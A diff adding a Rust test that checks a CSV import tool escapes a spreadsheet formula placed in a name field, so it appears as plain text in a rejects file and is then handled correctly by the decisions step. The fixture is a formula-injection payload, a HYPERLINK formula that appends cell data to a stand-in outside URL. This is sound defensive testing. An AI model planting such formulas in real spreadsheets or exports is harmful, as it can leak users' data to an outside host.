@@ -87,6 +87,19 @@ fn the_rejects_have_room_for_a_decision_and_say_which_row_they_are() {
 }
 
 #[test]
+fn a_formula_in_a_name_is_text_in_the_rejects_and_known_again_in_the_decisions() {
+    let desk = Desk::new("store.db");
+    let live = r#""=HYPERLINK(""https://x.example/""&A1,""klik"")""#;
+    desk.write("list.csv", &desk.read("list.csv").replace("Naam2", live));
+    let lines = desk.hold();
+    assert!(lines[1].starts_with(r#""=""=HYPERLINK(""""https://x.example/""""&A1,""""klik"""")""","#), "{lines:?}");
+    desk.decide(&lines, ["take-over", "skip"]);
+    let taken = desk.apply(&["--decisions", "decisions.csv"], 1);
+    assert_eq!(taken["decisions"], json!({"link": 0, "skip": 1, "take_over": 1}));
+    assert_eq!(taken["counts"]["linked"], 1, "{taken:#}");
+}
+
+#[test]
 fn every_decision_is_noted_in_the_journal_once_without_a_name_or_an_identity() {
     for store in ["store.db", "keyrings.csv"] {
         let desk = Desk::new(store);
